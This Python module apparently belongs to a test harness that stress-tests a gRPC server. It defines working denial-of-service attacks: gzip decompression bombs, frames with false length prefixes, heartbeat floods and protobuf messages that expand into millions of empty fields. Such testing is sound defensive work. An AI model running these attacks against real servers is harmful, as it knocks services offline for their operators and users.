"""Attacks by storms of calls and messages, on the gRPC port."""

from __future__ import annotations

import itertools
import zlib
from collections.abc import Iterator

import frames
import wire
from attack import MEGA, Attack, storm
from field import Field


def gzip_bombs() -> Iterator[tuple[bytes, int]]:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = packer.compress(bytes(12 * MEGA)) + packer.flush()
    block = frames.call_head(wire.SUBMIT, ("grpc-encoding", "gzip"))
    for stream in itertools.islice(itertools.count(1, 2), 100):
        yield frames.headers(stream, block) + frames.data(
            stream, frames.message(bomb, compressed=True), frames.END_STREAM), 2


def false_lengths() -> Iterator[tuple[bytes, int]]:
    block = frames.call_head(wire.SUBMIT)
    lengths = itertools.cycle([0xFFFFFFFF, 0x80000000, 13 * MEGA])
    for stream in itertools.islice(itertools.count(1, 2), 100):
        yield frames.headers(stream, block) + frames.data(stream, frames.message(b"x", length=next(lengths))), 2


def heartbeats() -> Iterator[tuple[bytes, int]]:
    opening = frames.message(wire.open_session("nothing", 1))
    yield frames.headers(1, frames.call_head(wire.SESSION)) + frames.data(1, opening), 2
    count = frames.LARGEST // 7
    yield from itertools.repeat((frames.data(1, frames.message(wire.HEARTBEAT) * count), count))


async def protobuf_bombs(place: Field) -> None:
    """Messages of megabytes, within the server's windows, that spell millions of nothings."""
    bombs = itertools.cycle([
        (wire.SUBMIT, b"\x0a\x00"), (wire.SUBMIT_STREAM, b"\x0a\x00"), (wire.WAIT_JOBS, b"\x0a\x00"),
        (wire.LEASE, b"\x0a\x00"), (wire.SESSION, b"\x12\x02\x12\x00"),
    ])
    while not place.is_over:
        peer = await place.connect("grpc", frames.hello())
        if peer is None:
            continue
        for stream, (path, one) in zip(frames.ALL_STREAMS, bombs):
            peer.offends(stream)
            if path == wire.SESSION:
                one = wire.field(2, b"\x12\x00" * (6 * MEGA - 20))
            body = frames.message(one * ((12 * MEGA - 20) // len(one)))
            if not await peer.send(frames.headers(stream, frames.call_head(path))):
                break
            for at in range(0, len(body), frames.LARGEST):
                piece = body[at : at + frames.LARGEST]
                if not await peer.credit(stream, len(piece)):
                    break
                is_last = at + len(piece) == len(body)
                await peer.send(frames.data(stream, piece, frames.END_STREAM if is_last else 0))
        peer.leave()


def storming(name: str, pieces, answers: tuple[str, ...] = (), cut: float | None = None) -> Attack:
    async def run(place: Field) -> None:
        await storm(place, "grpc", frames.hello(), pieces)

    return Attack(name, run, cut, answers)


ATTACKS = [
    storming("gzip-bomb", gzip_bombs),
    storming("false-length", false_lengths),
    Attack("protobuf-bombs", protobuf_bombs, cut_within=5),
    storming("heartbeats", heartbeats, cut=5),
]
